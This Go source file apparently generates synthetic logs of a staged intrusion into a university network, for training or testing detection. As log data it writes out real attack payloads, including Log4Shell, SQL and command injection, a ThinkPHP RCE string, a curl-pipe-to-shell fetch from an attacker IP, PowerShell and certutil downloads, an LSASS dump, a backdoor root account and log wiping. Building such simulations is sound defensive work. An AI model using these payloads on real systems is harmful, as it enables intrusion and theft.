package scenario

import (
	"encoding/hex"
	"fmt"
	"strings"
	"time"
)

// Who attacks, from where to where.
const (
	scanner  = "203.0.113.9"  // scans and guesses
	attacker = "203.0.113.66" // works by hand, and is where stolen data goes
	victim   = "10.10.1.21"   // teaching affairs host
	dc       = "10.10.1.5"
	backdoor = "svc_update"
)

// intrusion adds the lines of one intrusion that ends six hours before end.
func intrusion(g *generator, end time.Time) {
	start := end.Add(-44 * time.Hour)
	for _, step := range []struct {
		after time.Duration
		act   func(*generator)
	}{
		{0, scan},
		{2 * time.Hour, guess},
		{6 * time.Hour, probeWeb},
		{8 * time.Hour, exploit},
		{9 * time.Hour, webShell},
		{11 * time.Hour, escalate},
		{20 * time.Hour, lateral},
		{23 * time.Hour, takeDomain},
		{30 * time.Hour, stealByDNS},
		{36 * time.Hour, stealBackup},
		{38 * time.Hour, cover},
	} {
		g.at = start.Add(step.after)
		step.act(g)
	}
}

// pause lets up to most seconds pass.
func (g *generator) pause(most int) {
	g.at = g.at.Add(time.Duration(g.between(200, most*1000)) * time.Millisecond)
}

// scan looks for open ports.
func scan(g *generator) {
	for _, port := range []int{22, 23, 3389, 5900, 1433, 1521, 3306, 6379, 9200, 27017, 8080, 445} {
		g.netfilter(packet{"DROP", "wan0", "", scanner, "10.10.0.1", "TCP", port, 44})
		g.pause(3)
	}
	g.alert(scanner, "10.10.1.20", 80, object{"action": "allowed", "signature_id": 9000001, "signature": "CAMPUS SCAN many ports from one address", "category": "Detection of a Network Scan", "severity": 3})
	g.pause(5)
	g.ietf("gate01", priAuth, "sshd", "Did not receive identification string from "+scanner+" port 54321")
	g.pause(20)
	g.bsd("ns01", priDaemon, "named[801]", "client @0x7f10000000 "+scanner+"#41022 (example.edu.cn): zone transfer 'example.edu.cn/AXFR/IN' denied")
}

// guess tries passwords at the jump host until one fits.
func guess(g *generator) {
	for i := range 60 {
		port := g.between(32768, 60999)
		user := []string{"root", "invalid user admin", "invalid user oracle", "root", "wangfang"}[i%5]
		g.ietf("gate01", priAuth, "sshd", fmt.Sprintf("Failed password for %s from %s port %d ssh2", user, scanner, port))
		if i%12 == 11 {
			g.ietf("gate01", priAuth, "sshd", fmt.Sprintf("error: maximum authentication attempts exceeded for root from %s port %d ssh2 [preauth]", scanner, port))
		}
		g.pause(9)
	}
	g.ietf("gate01", priAuth, "sshd", fmt.Sprintf("Accepted password for wangfang from %s port %d ssh2", scanner, g.between(32768, 60999)))
	g.pause(60)
	g.ietf("gate01", priAuthFail, "sudo", "wangfang : user NOT in sudoers ; TTY=pts/3 ; PWD=/home/wangfang ; USER=root ; COMMAND=/usr/bin/id")
	g.pause(20)
	g.ietf("gate01", 37, "su", "FAILED SU (to root) wangfang on pts/3")
}

// probeWeb looks for what the sites give away.
func probeWeb(g *generator) {
	const tool = "Mozilla/5.0 (compatible; nuclei/3.3)"
	for _, target := range []string{"/.git/config", "/.env", "/phpmyadmin/index.php", "/actuator/env", "/WEB-INF/web.xml", "/nacos/", "/backup.zip"} {
		g.nginx(accessLine{scanner, "GET", target, 404, 153, "", tool})
		g.pause(2)
		g.apache(accessLine{scanner, "GET", target, 404, 153, "", tool})
		g.pause(2)
	}
	g.nginx(accessLine{scanner, "GET", "/", 200, 8200, "", "${jndi:ldap://203.0.113.9:1389/a}"})
	g.pause(3)
	g.nginx(accessLine{scanner, "GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", 200, 900, "", tool})
}

// exploit finds the way in.
func exploit(g *generator) {
	const agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
	for _, target := range []string{
		"/course/view?id=1%27%20or%201=1--+", "/course/view?id=1%20union%20select%201,2,user()",
		"/download?file=../../../../etc/passwd", "/tools/ping?host=127.0.0.1;cat+/etc/passwd",
		"/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
	} {
		g.apache(accessLine{attacker, "GET", target, 200, g.between(800, 5000), "", agent})
		g.pause(40)
	}
	g.alert(attacker, victim, 443, object{"action": "allowed", "signature_id": 9000007, "signature": "CAMPUS code execution in a PHP framework", "category": "Web Application Attack", "severity": 1})
}

// webShell leaves a page that runs commands.
func webShell(g *generator) {
	for range 14 {
		g.apache(accessLine{attacker, "POST", "/uploads/2026/11/avatar.php", 200, g.between(40, 2400), "", "Mozilla/5.0"})
		g.pause(90)
	}
	g.audit(45001, "EXECVE", `argc=3 a0="sh" a1="-c" a2=`+hexOf("curl -s http://203.0.113.66/k.sh|sh"))
	g.pause(4)
	g.audit(45003, "SYSCALL", `arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=4011 pid=4012 auid=4294967295 uid=33 gid=33 euid=33 tty=(none) ses=4294967295 comm="kworkerd" exe="/dev/shm/.x/kworkerd" key="exec"`)
	g.pause(4)
	g.netfilter(packet{"ACCEPT", "dmz0", "wan0", victim, attacker, "TCP", 4444, 60})
	g.pause(4)
	g.alert(victim, attacker, 4444, object{"action": "allowed", "signature_id": 9000012, "signature": "CAMPUS reverse shell leaves the server zone", "category": "Malware Command and Control Activity Detected", "severity": 1})
}

func hexOf(s string) string { return strings.ToUpper(hex.EncodeToString([]byte(s))) }

// escalate becomes root on the web host and stays.
func escalate(g *generator) {
	g.ietf("web02", priAuthFail, "sudo", "www-data : 3 incorrect password attempts ; TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/id")
	g.pause(120)
	g.audit(45100, "CONFIG_CHANGE", "op=set audit_enabled=0 old=1 auid=4294967295 ses=4294967295 res=1")
	g.pause(30)
	g.ietf("web02", priAuth, "useradd", "new user: name="+backdoor+", UID=0, GID=0, home=/root, shell=/bin/bash, from=none")
	g.pause(10)
	g.ietf("web02", priAuth, "usermod", "add '"+backdoor+"' to group 'sudo'")
	g.pause(60)
	g.ietf("web02", priAuthFail, "sudo", backdoor+" : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/bin/bash")
}

// lateral moves on with what was found.
func lateral(g *generator) {
	for range 6 {
		g.ietf("app02", priAuth, "sshd", fmt.Sprintf("Failed password for root from %s port %d ssh2", victim, g.between(32768, 60999)))
		g.pause(20)
	}
	g.ietf("app02", priAuth, "sshd", fmt.Sprintf("Accepted password for root from %s port %d ssh2", victim, g.between(32768, 60999)))
	g.pause(200)
	g.ietf("app02", priAuthFail, "sudo", "root : TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/cp /etc/shadow /tmp/.s")
	g.pause(200)
	for range 8 {
		g.onDC(4625, "帐户登录失败。", object{"TargetUserName": "Administrator", "TargetDomainName": "CAMPUS", "LogonType": "3", "IpAddress": victim, "Status": "0xc000006d", "SubStatus": "0xc000006a"})
		g.pause(15)
	}
	g.onDC(4624, "已成功登录帐户。", object{"TargetUserName": "chenjie", "TargetDomainName": "CAMPUS", "LogonType": "10", "IpAddress": victim})
}

// takeDomain runs tools on a workstation and the domain controller.
func takeDomain(g *generator) {
	const host, shell = "PC-0231.example.edu.cn", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	g.process(host, "sunli", `C:\Program Files\Kingsoft\WPS Office\office6\wps.exe`, shell, "powershell.exe -nop -c iwr http://203.0.113.66/p")
	g.pause(20)
	g.process(host, "sunli", `C:\Windows\explorer.exe`, shell, "powershell.exe -nop -w hidden -enc "+strings.Repeat("SQBFAFgAIAAo", 6))
	g.pause(30)
	g.process(host, "sunli", shell, `C:\Windows\System32\certutil.exe`, "certutil.exe -urlcache -split -f http://203.0.113.66/a.exe a.exe")
	g.pause(60)
	g.process(host, "chenjie", shell, `C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\l.dmp full`)
	g.pause(300)
	g.windows(windowsEvent{"dc01", "DC01.example.edu.cn", "System", "Service Control Manager", 7045, "系统中已安装服务。", object{"ServiceName": "updsvc", "ImagePath": `C:\Windows\Temp\upd.exe`, "ServiceType": "user mode service"}})
	g.pause(60)
	g.onDC(4720, "已创建用户帐户。", object{"TargetUserName": "helpdesk2", "SubjectUserName": "chenjie"})
	g.pause(20)
	g.onDC(4728, "已将成员添加到启用了安全性的全局组。", object{"MemberName": "CN=helpdesk2", "TargetUserName": "Domain Admins", "TargetSid": "S-1-5-21-1-2-3-512", "SubjectUserName": "chenjie"})
	g.pause(20)
	g.onDC(4624, "已成功登录帐户。", object{"TargetUserName": "helpdesk2", "TargetDomainName": "CAMPUS", "LogonType": "10", "IpAddress": attacker})
}

// stealByDNS carries records out in the names of DNS questions.
func stealByDNS(g *generator) {
	for i := range 90 {
		g.query(victim, fmt.Sprintf("%s%02d.t.cdn-sync.example.net", g.token(54), i), "TXT")
		g.pause(25)
	}
	g.query(victim, g.token(8)+".trycloudflare.com", "A")
}

// stealBackup fetches the data base and pushes it out over file sharing.
func stealBackup(g *generator) {
	g.apache(accessLine{attacker, "GET", "/backup/student_2026.sql.gz", 200, 734_003_200, "", "curl/8.11.0"})
	g.pause(60)
	g.netfilter(packet{"ACCEPT", "dmz0", "wan0", victim, attacker, "TCP", 445, 60})
	g.pause(60)
	g.eve("flow", victim, attacker, 443, object{"app_proto": "tls", "flow": object{
		"pkts_toserver": 812_004, "pkts_toclient": 203_118, "bytes_toserver": 1_180_344_120, "bytes_toclient": 11_002_871, "state": "closed",
	}})
}

// cover removes traces.
func cover(g *generator) {
	g.audit(45500, "EXECVE", `argc=3 a0="rm" a1="-f" a2="/var/log/auth.log"`)
	g.pause(30)
	g.windows(windowsEvent{"dc01", "DC01.example.edu.cn", "Security", "Microsoft-Windows-Eventlog", 1102, "审核日志已被清除。", object{"SubjectUserName": "helpdesk2"}})
	g.pause(10)
	g.windows(windowsEvent{"dc01", "DC01.example.edu.cn", "System", "Microsoft-Windows-Eventlog", 104, "系统日志文件已被清除。", object{"SubjectUserName": "helpdesk2", "Channel": "System"}})
}
